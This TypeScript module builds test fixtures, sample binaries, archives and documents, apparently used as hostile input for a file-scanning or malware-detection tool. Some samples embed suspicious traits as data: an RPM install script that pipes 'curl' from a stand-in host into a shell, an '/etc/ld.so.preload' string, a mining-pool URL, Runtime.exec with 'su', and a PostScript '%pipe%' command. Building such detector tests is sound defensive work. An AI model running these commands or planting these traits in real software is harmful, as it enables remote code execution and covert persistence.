// Every file that the tests of the file side make: what hostile input is made from.
import { writeApk } from '../android/write-apk.ts'
import { writeDex } from '../android/write-dex.ts'
import { writeRpm } from '../archives/write-rpm.ts'
import { buildCoff, buildImportObject } from '../coff/build-coff.ts'
import { containers } from '../containers.ts'
import { buildDotnet } from '../dotnet/build-dotnet.ts'
import { eicarCarriers } from '../eicar-carriers.ts'
import { buildElf } from '../elf/build-elf.ts'
import { binaries } from '../identify/binary-samples.ts'
import { chunk, exif, jpeg, png, segment, webp } from '../image/write-picture.ts'
import { buildFat, buildMacho } from '../macho/build-macho.ts'
import { buildPe, PE_OF_EVERY_TABLE } from '../pe/build-pe.ts'
import { PE_TRAITS } from '../pe/traits.ts'
import { armored, key, literal, signature, user } from '../pgp/write-pgp.ts'
import { writeDosEps } from '../postscript/write-eps.ts'
import { lookalikes } from '../traits/lookalikes.ts'
import { suspects } from '../traits/suspects.ts'

export interface Golden {
  readonly name: string
  readonly bytes: Uint8Array
}

const elf = {
  needed: ['libc.so.6', 'libcrypto.so.3'],
  runpath: '/tmp',
  imports: ['connect', 'execve', 'memfd_create'],
  exports: ['readdir'],
  interpreter: '/lib64/ld-linux-x86-64.so.2',
  strings: ['/etc/ld.so.preload', 'stratum+tcp://pool.example'],
  buildId: Buffer.alloc(20, 7),
} as const
const macho = {
  libraries: ['/usr/lib/libSystem.B.dylib'],
  imports: ['_system'],
  exports: ['_main'],
  strings: ['osascript -e'],
  rpaths: ['@executable_path'],
  signature: { identifier: 'a.b', teamId: 'TEAM', entitlements: ['com.apple.security.get-task-allow'], cms: true },
} as const

const programs: readonly Golden[] = [
  { name: 'tables.exe', bytes: PE_OF_EVERY_TABLE },
  { name: '32.elf', bytes: buildElf({ ...elf, bits: 32 }) },
  { name: '64.elf', bytes: buildElf(elf) },
  { name: 'big-endian.elf', bytes: buildElf({ ...elf, endian: 'big', machine: 21 }) },
  { name: 'module.ko', bytes: buildElf({ ...elf, type: 1, withoutSections: true, overlay: Buffer.alloc(40, 1) }) },
  { name: '64.macho', bytes: buildMacho(macho) },
  { name: '32.macho', bytes: buildMacho({ ...macho, bits: 32 }) },
  { name: 'fat.macho', bytes: buildFat([buildMacho(macho), buildMacho({ ...macho, bits: 32 })]) },
]

const described = exif({ 271: 'Example', 37510: 'a comment' }, true, true)
const code = writeDex({
  'com/example/Main': { onCreate: { calls: ['java/lang/Runtime.exec', 'com/example/b.run'], texts: ['su'] } },
  'com/example/b': { run: { texts: ['id'] } },
})
const object = { symbols: [{ name: 'go', section: 1 }, { name: '__imp_KERNEL32$VirtualAlloc' }, { name: 'memcpy' }] }
const postscript = Buffer.from(
  '%!PS-Adobe-3.0 EPSF-3.0\n%%Title: (A leaf)\n/s <2570697065> def <~87cURD]i~> pop (a\\101(b)) show (%pipe%id) (r) file\ncurrentfile eexec 00 cleartomark\n',
)
const others: readonly Golden[] = [
  { name: 'page.ps', bytes: postscript },
  { name: 'leaf.eps', bytes: writeDosEps(postscript, Buffer.from('II*\0\x08\0\0\0\0\0', 'latin1')) },
  { name: 'key.asc', bytes: armored(Buffer.concat([key, user, signature])) },
  { name: 'message.pgp', bytes: literal('@echo off\r\nver\r\n') },
  { name: 'object.obj', bytes: buildCoff(object) },
  { name: 'object-of-many-sections.obj', bytes: buildCoff({ ...object, isBig: true }) },
  { name: 'import.obj', bytes: buildImportObject('CreateFileW', 'KERNEL32.dll') },
  { name: 'scripts.rpm', bytes: writeRpm('#!/bin/sh\ncurl -fsS http://a.example/i.sh | sh\n') },
  { name: 'classes.dex', bytes: code },
  {
    name: 'app.apk',
    bytes: writeApk({
      permissions: ['INTERNET'],
      components: [['activity', '.Main', ['android.intent.action.MAIN']]],
      code: { 'org/example/app/Main': { run: { calls: ['java/lang/Runtime.exec'] } } },
    }),
  },
  { name: 'assembly.dll', bytes: buildDotnet() },
  { name: 'exif.jpg', bytes: jpeg(segment(0xe1, Buffer.concat([Buffer.from('Exif\0\0'), described]))) },
  { name: 'exif.png', bytes: png(chunk('eXIf', described), chunk('tEXt', Buffer.from('Comment\0text'))) },
  { name: 'exif.webp', bytes: webp(['VP8X', Buffer.alloc(10)], ['EXIF', described]) },
  {
    name: 'a.application',
    bytes: Buffer.from(
      '<?xml version="1.0"?><asmv1:assembly xmlns:asmv1="urn:schemas-microsoft-com:asm.v1"><description asmv2:publisher="A"/><deployment install="false"><deploymentProvider codebase="http://a.example/B.application"/></deployment></asmv1:assembly>',
    ),
  },
]

/** The least of each binary type, which is how readers meet a file of which nearly all is missing. */
const leastOfEach = Object.entries(binaries).flatMap(([type, samples]): readonly Golden[] => {
  const [bytes] = samples
  return bytes === undefined ? [] : [{ name: `least.${type}`, bytes }]
})

/** Padding is shortened: a second for each of ten thousand mutations of 31 MiB of zeros shows no more than 1 MiB does. */
const PADDING_BYTES_MAX = 1024 * 1024

/** One of each trait: the others of the same trait differ in a name only. */
const traitPrograms = Object.entries(PE_TRAITS).flatMap(([id, { hits }]): readonly Golden[] => {
  const [recipe] = Object.values(hits)
  if (recipe === undefined) return []
  const overlay = recipe.overlay?.subarray(0, PADDING_BYTES_MAX)
  return [{ name: `${id}.exe`, bytes: buildPe(overlay === undefined ? recipe : { ...recipe, overlay }) }]
})

/** In a fixed order, names unique. */
export async function goldenFiles(): Promise<readonly Golden[]> {
  const made = await Promise.all(
    Object.entries({ ...containers, ...eicarCarriers }).map(async ([name, make]) => ({ name, bytes: await make() })),
  )
  const all = [...made, ...programs, ...others, ...leastOfEach, ...traitPrograms, ...suspects, ...lookalikes]
  const seen = new Map<string, number>()
  return all.map(({ name, bytes }) => {
    const count = (seen.get(name) ?? 0) + 1
    seen.set(name, count)
    // Two corpora may call theirs alike. The number stands in front: what a file is called by its end matters.
    return { name: count === 1 ? name : `${count}-${name}`, bytes }
  })
}
